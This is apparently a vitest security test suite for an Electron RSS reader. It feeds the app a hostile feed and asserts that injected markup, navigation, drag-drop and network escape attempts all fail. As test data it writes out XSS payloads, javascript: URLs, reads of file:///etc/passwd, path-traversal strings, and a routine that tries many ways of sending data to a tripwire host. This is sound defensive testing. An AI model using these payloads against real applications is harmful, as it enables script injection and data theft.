/**
 * The safety of the window, shown by effect in the packaged app: each attack is really tried, and what counts is what happened.
 * docs/security.md lists which guard each of these tests was seen to miss when it was taken away.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { answerOf, askEngine, waitForQuiet } from '../support/ask-engine'
import { hostileMarkup } from '../support/hostile-markup'
import { launchApp, newProfile, runHidden, type LaunchedApp } from '../support/packaged-app'
import { openArticle, showList } from '../support/reading-window'
import { startNewsSite, type NewsSite } from '../support/site/news-site'
import { setTripwire, type Tripwire } from '../support/tripwire'

const TITLE = 'An article that means no good'
const SETTLE_MS = 1_500
/** Where a feed can put words beside an article's text: nothing of it may come alive. */
const SINK = `sinkmark<img src=x: onerror="top.pwned=['sink']"><script>top.pwned=['sink']</script>`
const escaped = SINK.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')
const SINKS = `<author>${escaped}</author><category>${escaped}</category><comments>javascript:top.pwned=1</comments><enclosure url="javascript:top.pwned=1" type="${escaped}" length="1"/>`

const pwned = (launched: LaunchedApp): Promise<unknown> =>
  launched.window.evaluate(() => (globalThis as unknown as { pwned?: unknown }).pwned ?? null)

/** Puts markup into the article's frame as if the sanitiser had let it pass: parsed, scripts made anew so that they would run. */
function writeIntoFrame(launched: LaunchedApp, markup: string): Promise<void> {
  return launched.window.evaluate((html) => {
    const frame = document.querySelector<HTMLIFrameElement>('iframe[title="Article text"]')
    const inside = frame?.contentDocument
    if (!inside) throw new Error('There is no article frame.')
    inside.body.insertAdjacentHTML('beforeend', html)
    for (const dead of inside.querySelectorAll('script')) {
      const live = inside.createElement('script')
      live.textContent = dead.textContent
      if (dead.src) live.src = dead.src
      dead.replaceWith(live)
    }
  }, markup)
}

/** Every way out that a script in the window has; none may throw past here. */
function tryEveryWayOut(launched: LaunchedApp, host: string): Promise<Record<string, string>> {
  return launched.window.evaluate(async (target) => {
    const tried: Record<string, string> = {}
    const attempt = async (name: string, way: () => unknown): Promise<void> => {
      try {
        const value = await Promise.race([
          Promise.resolve(way()),
          new Promise((resolve) => setTimeout(resolve, 1_500, 'nothing')),
        ])
        tried[name] = String(value)
      } catch (error) {
        tried[name] = `refused: ${(error as Error).name}`
      }
    }
    const add = (tag: string, fields: Record<string, string>): void => {
      const element = Object.assign(document.createElement(tag), fields)
      document.head.append(element)
    }
    const url = `http://${target}`
    await attempt('fetch', () => fetch(`${url}/fetch`, { mode: 'no-cors' }))
    await attempt('file', () => fetch('file:///etc/passwd'))
    await attempt('xhr', () => {
      const request = new XMLHttpRequest()
      request.open('GET', `${url}/xhr`)
      request.send()
    })
    await attempt('beacon', () => navigator.sendBeacon(`${url}/beacon`, 'x'))
    await attempt('socket', () => new WebSocket(`ws://${target}/socket`).readyState)
    await attempt('events', () => new EventSource(`${url}/events`).readyState)
    await attempt('worker', () => new Worker(`${url}/worker.js`))
    await attempt('import', () => import(`${url}/module.js`))
    await attempt('open', () => window.open(`${url}/open`))
    await attempt('rtc', async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${target}` }] })
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
    })
    add('script', { src: `${url}/script.js` })
    add('link', { rel: 'stylesheet', href: `${url}/style.css` })
    for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'prerender', 'modulepreload']) {
      add('link', { rel, href: `${url}/${rel}` })
    }
    for (const [tag, field] of [
      ['img', 'src'],
      ['iframe', 'src'],
      ['embed', 'src'],
      ['object', 'data'],
      ['video', 'src'],
      ['webview', 'src'],
    ]) {
      const element = document.createElement(tag ?? '')
      element.setAttribute(field ?? '', `${url}/${tag ?? ''}`)
      document.body.append(element)
    }
    const form = Object.assign(document.createElement('form'), { action: `${url}/form`, method: 'post' })
    document.body.append(form)
    await attempt('form', () => {
      form.submit()
    })
    await new Promise((resolve) => setTimeout(resolve, 1_500))
    return tried
  }, host)
}

describe('the window under attack', () => {
  let site: NewsSite
  let wire: Tripwire
  let launched: LaunchedApp
  const profile = newProfile('security')

  beforeAll(async () => {
    wire = await setTripwire()
    const content = hostileMarkup(wire.host).replaceAll(']]>', '')
    site = await startNewsSite({
      extra: {
        '/hostile.rss': {
          contentType: 'application/rss+xml',
          body: `<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Hostile ${escaped}</title><item><title>${escaped}</title><guid>h2</guid><description>${escaped} ${escaped}</description></item><item>${SINKS}<title>${TITLE}</title><guid>h1</guid><content:encoded><![CDATA[${content}]]></content:encoded></item></channel></rss>`,
        },
      },
    })
    const added = await runHidden(profile, ['add', `${site.base}/hostile.rss`])
    expect(added, added.stderr).toMatchObject({ code: 0 })
    launched = await launchApp(profile)
    await waitForQuiet(launched.window, 2)
    await showList(launched.window, 'All articles')
    await openArticle(launched.window, TITLE)
    await launched.window.waitForTimeout(SETTLE_MS)
    // The sync itself may not fetch from the tripwire (a private address that the reader never typed), the window even less.
  }, 180_000)

  afterAll(async () => {
    await launched.close()
    await site.stop()
    wire.stop()
  })

  it('shows the harmless part of a hostile article', async () => {
    const text = await launched.window
      .frameLocator('iframe[title="Article text"]')
      .locator('body')
      .innerText()
    expect(text).toContain('A harmless sentence')
  })

  it('runs nothing of it and asks nobody', async () => {
    expect(await pwned(launched)).toBeNull()
    expect(wire.touched).toEqual([])
  })

  it('makes nothing live of markup in names, authors and categories', async () => {
    const { window } = launched
    const found = await window.evaluate(() => {
      const frame = document.querySelector<HTMLIFrameElement>('iframe[title="Article text"]')
      const pages = [document, frame?.contentDocument].flatMap((page) => page ?? [])
      return {
        words: pages.some((page) => page.body.innerText.includes('sinkmark')),
        live: pages.flatMap((page) => [
          ...page.querySelectorAll('[onerror], script:not([src]), a[href^="javascript:"]'),
        ]).length,
      }
    })
    expect(found).toEqual({ words: true, live: 0 })
    expect(await pwned(launched)).toBeNull()
  })

  it('goes nowhere when files and links are dropped on it', async () => {
    const { window } = launched
    const client = await window.context().newCDPSession(window)
    const payloads = [
      { items: [], files: ['/etc/passwd'], dragOperationsMask: 1 },
      { items: [{ mimeType: 'text/uri-list', data: 'file:///etc/passwd' }], dragOperationsMask: 1 },
      { items: [{ mimeType: 'text/uri-list', data: 'javascript:top.pwned=1' }], dragOperationsMask: 1 },
      { items: [{ mimeType: 'text/html', data: SINK }], dragOperationsMask: 1 },
    ]
    for (const data of payloads) {
      for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
        await client.send('Input.dispatchDragEvent', { type, x: 300, y: 300, data })
      }
      await window.waitForTimeout(300)
    }
    await client.detach()
    expect(window.url()).toBe('app://offprint/index.html')
    expect(launched.app.windows()).toHaveLength(1)
    expect(await pwned(launched)).toBeNull()
    expect(wire.touched).toEqual([])
    await window.keyboard.press('Escape')
  })

  it('runs nothing even where the sanitiser had let everything pass', async () => {
    await writeIntoFrame(launched, hostileMarkup(wire.host))
    await launched.window.evaluate(() => {
      const inside = document.querySelector<HTMLIFrameElement>(
        'iframe[title="Article text"]',
      )?.contentDocument
      for (const id of ['js', 'form', 'send']) (inside?.getElementById(id) as HTMLElement | null)?.click()
    })
    await launched.window.waitForTimeout(SETTLE_MS)
    expect(await pwned(launched)).toBeNull()
    expect(wire.touched).toEqual([])
    expect(launched.window.url()).toBe('app://offprint/index.html')
  })

  it('runs no inline script and no string as script in the window itself', async () => {
    const ran = await launched.window.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'window.inlineRan = true'
      document.body.append(script)
      const holder = document.createElement('div')
      holder.setAttribute('onclick', 'window.handlerRan = true')
      document.body.append(holder)
      holder.click()
      const { inlineRan, handlerRan } = globalThis as unknown as Record<string, unknown>
      return [inlineRan ?? null, handlerRan ?? null]
    })
    expect(ran).toEqual([null, null])
  })

  it('has no network of its own', async () => {
    await tryEveryWayOut(launched, wire.host)
    expect(wire.touched).toEqual([])
    expect(launched.app.windows()).toHaveLength(1)
  })

  it('cannot be led to another page', async () => {
    for (const address of [`http://${wire.host}/`, 'file:///etc/passwd', 'data:text/html,x', 'about:blank']) {
      await launched.window.evaluate((to) => {
        location.href = to
      }, address)
      await launched.window.waitForTimeout(300)
      await expect.poll(() => launched.window.url(), { message: address }).toBe('app://offprint/index.html')
    }
    expect(wire.touched).toEqual([])
  })

  it('gives the window no Node and no Electron', async () => {
    const found = await launched.window.evaluate(() =>
      ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer', '__dirname'].filter(
        (name) => name in globalThis,
      ),
    )
    expect(found).toEqual([])
    expect(
      await launched.window.evaluate(() =>
        Object.keys((globalThis as unknown as { offprint: object }).offprint).sort(),
      ),
    ).toEqual(['on', 'request'])
  })

  it('gives a frame inside the window no bridge', async () => {
    const bridges = await launched.window.evaluate(() =>
      [...document.querySelectorAll('iframe')].map((frame) => 'offprint' in (frame.contentWindow ?? {})),
    )
    expect(bridges.every((one) => !one)).toBe(true)
  })

  it('refuses every permission', async () => {
    const states = await launched.window.evaluate(async () => {
      const asked = ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi']
      const found = await Promise.all(
        asked.map((name) =>
          navigator.permissions.query({ name: name as PermissionName }).then(
            (status) => status.state,
            () => 'unknown',
          ),
        ),
      )
      const media = await navigator.mediaDevices.getUserMedia({ audio: true }).then(
        () => 'granted',
        (error: unknown) => (error as Error).name,
      )
      return [...found, media, await Notification.requestPermission()]
    })
    expect(states.filter((state) => state === 'granted' || state === 'prompt')).toEqual([])
  })

  it('answers unknown and malformed requests with bad_request', async () => {
    const { window } = launched
    for (const [name, ...args] of [
      ['__proto__'],
      ['constructor', {}],
      ['articles.get', '../../../etc/passwd'],
      ['articles.list', { view: 'all' }, null, 10],
      ['settings.change', { libraryFolder: '/tmp' }],
      ['feeds.add'],
      ['app.info', 'more'],
    ] as const) {
      const answer = await answerOf(window, name, ...args)
      expect(answer, name).toMatchObject({ ok: false, error: { code: 'bad_request' } })
    }
    expect(await askEngine(window, 'feeds.list')).toHaveLength(1)
  })

  it('answers no window but its own', async () => {
    const answer = await launched.app.evaluate(async ({ app, BrowserWindow }) => {
      const preload = `${app.getAppPath()}/dist/preload.cjs`
      const stranger = new BrowserWindow({ show: false, webPreferences: { preload, sandbox: true } })
      await stranger.loadURL('data:text/html,stranger').catch(() => undefined)
      const said = (await stranger.webContents.executeJavaScript(
        'window.offprint.request("feeds.list")',
      )) as unknown
      stranger.destroy()
      return said
    })
    expect(answer).toMatchObject({ ok: false, error: { code: 'forbidden' } })
  })

  it('opens web addresses outside, and nothing else', async () => {
    await launched.app.evaluate(({ shell }) => {
      const seen: string[] = []
      Object.assign(globalThis, { opened: seen })
      shell.openExternal = (url: string) => {
        seen.push(url)
        return Promise.resolve()
      }
    })
    const { window } = launched
    expect(await answerOf(window, 'app.openExternal', 'https://example.org/a b')).toMatchObject({ ok: true })
    for (const address of [
      'javascript:alert(1)',
      'file:///etc/passwd',
      'smb://host/x',
      'https://a@b.example/',
      'x',
    ]) {
      expect(await answerOf(window, 'app.openExternal', address), address).toMatchObject({
        ok: false,
        error: { code: 'refused_address' },
      })
    }
    const opened = await launched.app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened)
    expect(opened).toEqual(['https://example.org/a%20b'])
  })

  it('serves stored pictures by their hash only', async () => {
    const widths = await launched.window.evaluate(
      async (addresses) => {
        const load = async (address: string): Promise<boolean> => {
          const image = new Image()
          image.src = address
          return image.decode().then(
            () => true,
            () => false,
          )
        }
        return Promise.all(addresses.map(load))
      },
      [
        'media://library/..%2f..%2fwindow-state.json',
        'media://library/%2e%2e/feeds.json',
        `media://library/${'0'.repeat(64)}.png`,
        `media://elsewhere/${'0'.repeat(64)}.png`,
        'app://offprint/..%2fmain.cjs',
      ],
    )
    expect(widths).toEqual([false, false, false, false, false])
  })
})

describe('the window without its Content-Security-Policy', () => {
  it('still has no network: the session, the resolver and the navigation guard hold alone', async () => {
    const wire = await setTripwire()
    const launched = await launchApp(newProfile('no-csp'), { bypassCSP: true })
    await launched.window.reload()
    await tryEveryWayOut(launched, wire.host)
    await launched.window.evaluate((host) => {
      location.href = `http://${host}/away`
    }, wire.host)
    await launched.window.waitForTimeout(SETTLE_MS)
    expect(wire.touched).toEqual([])
    expect(launched.window.url()).toBe('app://offprint/index.html')
    expect(launched.app.windows()).toHaveLength(1)
    await launched.close()
    wire.stop()
  }, 120_000)
})
